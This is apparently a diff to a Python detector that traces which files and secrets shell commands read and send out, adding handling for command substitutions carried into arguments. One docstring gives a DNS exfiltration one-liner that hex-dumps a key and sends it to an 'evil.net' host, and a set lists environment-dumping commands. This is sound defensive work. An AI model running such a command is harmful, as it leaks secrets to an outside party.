@@ -78,6 +78,11 @@ class TransferState:
             return Source(shown.kind, shown.label, shown.weight, path)
         return named
 
+    def classify_id(self, ident: str) -> Source | None:
+        """What a document a call names by id holds, from the listing that gave the id."""
+        shown = self.memory.recall_id(ident) if self.memory is not None else None
+        return Source(shown.kind, shown.label, shown.weight, ident) if shown else None
+
 
 _ENV_DUMP = frozenset({"env", "printenv", "set", "export", "declare", "compgen"})
 _DUMPERS = frozenset(
@@ -282,12 +287,35 @@ def _reads(cmd: Command, state: TransferState) -> list[Source]:
     for nested in cmd.nested:
         for inner in nested.commands():
             out.extend(_reads(inner, state))
+    if not cmd.nested:
+        out.extend(_carried_substitutions(cmd, state))
     for text in (cmd.heredoc, *(r.target for r in cmd.redirects if r.op == "<<<")):
         if text:
             for word in text.split():
                 hit = classify_path(word)
                 if hit:
                     out.append(Source(hit[0], hit[1], hit[2], word))
+    return out
+
+
+# ``$(...)`` or backticks still written out in an argument: a variable (a loop's ``$c``) stood
+# for a command's output the parser could not compute.
+_RAW_SUBSTITUTION = re.compile(r"\$\(([^()]{1,400})\)|`([^`]{1,400})`")
+
+
+def _carried_substitutions(cmd: Command, state: TransferState) -> list[Source]:
+    """What the commands read whose output a variable carries into this command's arguments:
+    ``for c in $(xxd key); do dig $c.evil.net; done`` sends the key, chunk by chunk. Text
+    the command itself spells out (``'$(cat x)'`` in single quotes) runs nothing."""
+    joined = " ".join(cmd.argv)
+    if "$(" not in joined and "`" not in joined:
+        return []
+    out: list[Source] = []
+    for m in _RAW_SUBSTITUTION.finditer(joined):
+        if m.group(0) in cmd.text:
+            continue
+        for inner in parse_script(m.group(1) or m.group(2)).commands():
+            out.extend(_reads(inner, state))
     return out
 
 
